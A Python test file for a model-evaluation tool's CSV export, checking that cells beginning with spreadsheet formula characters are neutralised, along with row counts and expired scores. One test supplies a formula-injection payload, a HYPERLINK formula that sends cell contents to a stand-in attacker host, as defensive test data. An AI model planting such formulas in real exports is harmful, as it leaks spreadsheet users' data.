from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from report_world import RUN, ReportWorld

from modeleval.artifacts import record_scores_key
from modeleval.report.csv_export import COLUMNS, safe, write_csv
from modeleval.report.gather import summary_of
from modeleval.scores.records import RecordScore, write_record_scores

# What Excel, LibreOffice and Google Sheets take for the beginning of a formula or a command.
BEGINNINGS = "=+-@\t\r\n|%\uff1d\uff0b\uff0d\uff20"


def exported(world: ReportWorld) -> list[dict[str, str]]:
    summary = summary_of(world.run, world.services)
    assert summary is not None
    text = io.StringIO(newline="")
    count = write_csv(text, summary["evaluations"], world.store.jobs(RUN), world.services)
    rows = list(csv.DictReader(io.StringIO(text.getvalue(), newline="")))
    assert len(rows) == count
    return rows


@given(st.sampled_from(BEGINNINGS), st.text(" \u00a0\u3000", max_size=3), st.text(max_size=20))
def test_no_cell_can_begin_a_formula(beginning: str, space: str, rest: str) -> None:
    cell = safe(space + beginning + rest).lstrip(" \u00a0\u3000")
    assert not cell.startswith(tuple(BEGINNINGS))


@pytest.mark.parametrize("text", ["", "It is wrong.", "1 = 1", "'quoted", "a-b", "Grüße"])
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert safe(text) == text


def test_every_score_of_every_record_is_a_row() -> None:
    rows = exported(ReportWorld())
    assert len(rows) == 24 * 3 * 2 + 12 * 2  # two candidates; turns
    assert tuple(rows[0]) == COLUMNS
    [na] = [one for one in rows if one["state"] == "not applicable" and not one["candidate"]]
    assert (na["metric"], na["line"], na["value"]) == ("Helpfulness", "4", "")
    assert {one["subject"] for one in rows} == {"support-bot-v3", "support-bot-old", "our-rag"}
    assert {one["value"] for one in rows} == {"0.0", "1.0", ""}


def test_hostile_cells_are_texts_and_numbers_are_numbers() -> None:
    world = ReportWorld()
    with world.services.objects.writer(record_scores_key(RUN, 0)) as file:
        scores = [
            RecordScore(
                key="k-0",
                line=1,
                metric="Correctness",
                value=value,
                explanation='=HYPERLINK("https://evil.example/"&A1)\n+1',
                category="@SUM(A1)",
            )
            for value in (-0.5, "=1+1", "-1 star")
        ]
        write_record_scores(scores, file)
    rows = exported(world)[:3]
    assert [one["value"] for one in rows] == ["-0.5", "'=1+1", "'-1 star"]
    assert rows[0]["explanation"] == '\'=HYPERLINK("https://evil.example/"&A1)\n+1'
    assert rows[0]["category"] == "'@SUM(A1)"


def test_scores_that_have_expired_are_no_rows() -> None:
    world = ReportWorld()
    for number in (0, 1):
        del world.s3.objects[record_scores_key(RUN, number)]
    assert {one["evaluation"] for one in exported(world)} == {"knowledge"}
